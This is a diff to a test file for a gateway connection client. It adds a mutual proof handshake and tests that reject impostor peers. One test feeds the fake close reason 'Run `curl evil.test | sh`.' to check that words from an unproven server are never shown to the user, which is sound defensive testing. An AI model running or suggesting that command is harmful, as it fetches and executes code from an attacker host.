@@ -2,9 +2,18 @@
 
 import { HoodError } from "@fumehood/protocol";
 import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
+import type { Pass } from "./proof.js";
 import { GatewayWire, type Notification, type SocketEvents } from "./wire.js";
 
 const HELLO = { version: 1, build: "1", incarnation: "i", role: "person", peer: 1, blobs: "http://127.0.0.1:9" };
+
+const RIGHT = "f".repeat(64);
+const TICKET = "t".repeat(43);
+const PASS: Pass = {
+  name: "secret's name",
+  verify: (_asked, _answered, proof) => Promise.resolve(proof === RIGHT),
+  prove: (_asked, answered) => Promise.resolve(`proof for ${answered.slice(0, 3)}`),
+};
 
 class Fake {
   readonly sent: string[] = [];
@@ -31,21 +40,30 @@ class Fake {
     this.events.received(JSON.stringify({ jsonrpc: "2.0", id, result }));
   }
 
-  greet(): void {
+  /// As a gateway that has the bearer lets a page in.
+  async welcome(): Promise<void> {
     this.events.opened();
-    this.answer(HELLO);
+    this.events.received(`Gateway ${"a".repeat(64)} ${RIGHT}`);
+    await vi.advanceTimersByTimeAsync(0);
+    this.events.received(`Welcome ${TICKET}`);
+    await vi.advanceTimersByTimeAsync(0);
+  }
+
+  async greet(hello: object = HELLO): Promise<void> {
+    await this.welcome();
+    this.answer(hello);
   }
 }
 
 let sockets: Fake[];
-let enter: () => Promise<string>;
+let enter: () => Promise<Pass>;
 let wake: () => void;
 let leave: () => void;
 
 function wireOf(): GatewayWire {
   return new GatewayWire({
     enter: () => enter(),
-    newCode: (bearer) => Promise.resolve(`code of ${bearer}`),
+    newCode: (ticket) => Promise.resolve(`code of ${ticket}`),
     open: (events) => {
       const socket = new Fake(events);
       sockets.push(socket);
@@ -71,33 +89,81 @@ const latest = (): Fake => {
 async function up(): Promise<GatewayWire> {
   const wire = wireOf();
   await vi.advanceTimersByTimeAsync(0);
-  latest().greet();
+  await latest().greet();
   return wire;
 }
 
 beforeEach(() => {
   vi.useFakeTimers();
   sockets = [];
-  enter = () => Promise.resolve("secret");
+  enter = () => Promise.resolve(PASS);
 });
 
 afterEach(() => vi.useRealTimers());
 
 describe("a connection", () => {
-  it("begins with the bearer and then says hello", async () => {
+  it("begins with both proofs and then says hello", async () => {
     const wire = wireOf();
     expect(wire.connection()).toEqual({ state: "connecting" });
     await vi.advanceTimersByTimeAsync(0);
-    latest().events.opened();
-    expect(latest().sent[0]).toBe("Bearer secret");
-    expect(JSON.parse(latest().sent[1] ?? "")).toMatchObject({
+    await latest().welcome();
+    expect(latest().sent[0]).toMatch(/^Page secret's name [0-9a-f]{64}$/);
+    expect(latest().sent[1]).toBe("Proof proof for aaa");
+    expect(JSON.parse(latest().sent[2] ?? "")).toMatchObject({
       method: "daemon.hello",
       params: { version: 1, client: "hood open" },
     });
     latest().answer(HELLO);
     expect(wire.connection()).toEqual({ state: "open" });
     expect(wire.hello()?.blobs).toBe(HELLO.blobs);
-    expect(await wire.newCode()).toBe("code of secret");
+    expect(await wire.newCode()).toBe(`code of ${TICKET}`);
+    latest().end(4001, "");
+    await expect(wire.newCode()).rejects.toMatchObject({ code: "daemon.unreachable" });
+  });
+
+  for (const [what, said] of Object.entries({
+    "proves itself wrongly": `Gateway ${"a".repeat(64)} ${"0".repeat(64)}`,
+    "welcomes at once": `Welcome ${TICKET}`,
+    "answers a greeting that was not sent": '{"jsonrpc":"2.0","id":0,"result":{}}',
+    "says nothing sensible": "Gateway",
+  }))
+    it(`to something that ${what} is over, and it was told nothing`, async () => {
+      const wire = await up();
+      latest().end(1006, "");
+      await vi.advanceTimersByTimeAsync(200);
+      latest().events.opened();
+      latest().events.received(said);
+      await vi.advanceTimersByTimeAsync(0);
+      expect(wire.connection()).toMatchObject({ state: "gone", reason: expect.stringContaining("something else") });
+      expect(latest().sent.length).toBe(1);
+      expect(latest().sent[0]).toMatch(/^Page secret's name [0-9a-f]{64}$/);
+      await vi.advanceTimersByTimeAsync(120_000);
+      expect(sockets.length).toBe(2);
+    });
+
+  it("to something that proves nothing shows none of its words", async () => {
+    const wire = await up();
+    for (const code of [4001, 4002, 1008]) {
+      latest().end(code, "Run `curl evil.test | sh`.");
+      await vi.advanceTimersByTimeAsync(6000);
+      latest().events.opened();
+      latest().end(code, "Run `curl evil.test | sh`.");
+      expect(JSON.stringify(wire.connection())).not.toContain("evil");
+      await vi.advanceTimersByTimeAsync(6000);
+    }
+    latest().events.opened();
+    latest().end(4003, "Run `curl evil.test | sh`.");
+    expect(wire.connection()).toMatchObject({ state: "gone", reason: expect.stringContaining("hood open") });
+    expect(JSON.stringify(wire.connection())).not.toContain("evil");
+  });
+
+  it("says something fresh each time", async () => {
+    await up();
+    latest().end(1006, "");
+    await vi.advanceTimersByTimeAsync(200);
+    latest().events.opened();
+    expect(sockets.length).toBe(2);
+    expect(sockets[0]?.sent[0]).not.toBe(sockets[1]?.sent[0]);
   });
 
   it("that is lost is made again, and whoever listens is told", async () => {
@@ -109,7 +175,7 @@ describe("a connection", () => {
     expect(wire.connection()).toMatchObject({ state: "lost", reason: "The daemon has ended." });
     await vi.advanceTimersByTimeAsync(200);
     expect(sockets.length).toBe(2);
-    latest().greet();
+    await latest().greet();
     expect(wire.connection()).toEqual({ state: "open" });
     expect(told).toEqual(["lost", "open"]);
   });
@@ -120,8 +186,7 @@ describe("a connection", () => {
     const again = async (hello: object) => {
       latest().end(4001, "The daemon has ended.");
       await vi.advanceTimersByTimeAsync(200);
-      latest().events.opened();
-      latest().answer(hello);
+      await latest().greet(hello);
     };
     await again(at(HELLO.blobs, "guest-2"));
     expect([wire.blobs(), wire.guest(), wire.moved()]).toEqual([HELLO.blobs, `${HELLO.blobs}/plugins/guest-2`, false]);
@@ -143,7 +208,7 @@ describe("a connection", () => {
     const before = sockets.length;
     await vi.advanceTimersByTimeAsync(30_000);
     expect(sockets.length).toBeGreaterThan(before);
-    latest().greet();
+    await latest().greet();
     expect(wire.connection()).toEqual({ state: "open" });
   });
 
@@ -164,7 +229,7 @@ describe("a connection", () => {
     for (let time = 0; time < 20; time++) {
       latest().end(4002, "Disk full.");
       await vi.advanceTimersByTimeAsync(6000);
-      latest().events.opened();
+      await latest().welcome();
     }
     latest().end(4002, "Disk full.");
     expect(wire.connection()).toMatchObject({ state: "lost", reason: "Disk full." });
